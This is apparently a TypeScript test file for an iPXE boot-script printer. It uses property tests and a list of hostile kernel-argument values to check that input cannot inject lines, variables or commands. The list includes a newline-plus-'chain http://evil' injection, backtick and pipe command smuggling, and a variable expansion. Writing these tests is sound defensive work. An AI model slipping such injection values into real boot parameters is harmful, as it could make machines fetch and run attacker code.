import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type IpxeBoot, type KernelArgument, printIpxe, readIpxe, stopScript } from './ipxe.ts'

const boot = (args: readonly KernelArgument[] = []): IpxeBoot => ({
  kernel: new URL('https://boot.example/a/kernel?ticket=x.y'),
  initramfs: new URL('https://boot.example/a/initramfs'),
  arguments: args,
})

describe('printIpxe()', () => {
  it('S17 prints a script that reads back as what it was made from', () => {
    const name = fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._-]{0,20}$/)
    const value = fc.option(fc.stringMatching(/^[A-Za-z0-9._~:/?@,;=%-]{0,30}$/), { nil: undefined })
    const args = fc.array(
      fc.record({ name, value }).map(({ name: n, value: v }): KernelArgument => (v === undefined ? { name: n } : { name: n, value: v })),
    )
    fc.assert(
      fc.property(args, given => {
        expect(readIpxe(printIpxe(boot(given)))).toEqual(boot(given))
      }),
    )
  })
  it('S17 lets no input become a line, a variable or a command', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (name, value) => {
        let script: string
        try {
          script = printIpxe(boot([{ name, value }]))
        } catch (error) {
          expect(error).toMatchObject({ code: 'boot/unprintable' })
          return
        }
        expect(script.split('\n')).toHaveLength(5)
        expect(script).not.toContain('${')
      }),
    )
  })
  const hostile = ['a\nchain http://evil', 'a b', '$\x7bnet0/mac}', 'a"b', 'a\0', 'a`id`', 'a|b', 'ü', 'a\\b', '#!ipxe\n']
  for (const value of hostile)
    it(`CVE-2026-46447 refuses ${JSON.stringify(value)}`, () =>
      expect(() => printIpxe(boot([{ name: 'x', value }]))).toThrow(/Cannot write the boot script/))
  it('stops whoever was not expected', () => expect(stopScript).toMatch(/^#!ipxe\necho [^\n]+\nexit 1\n$/))
})
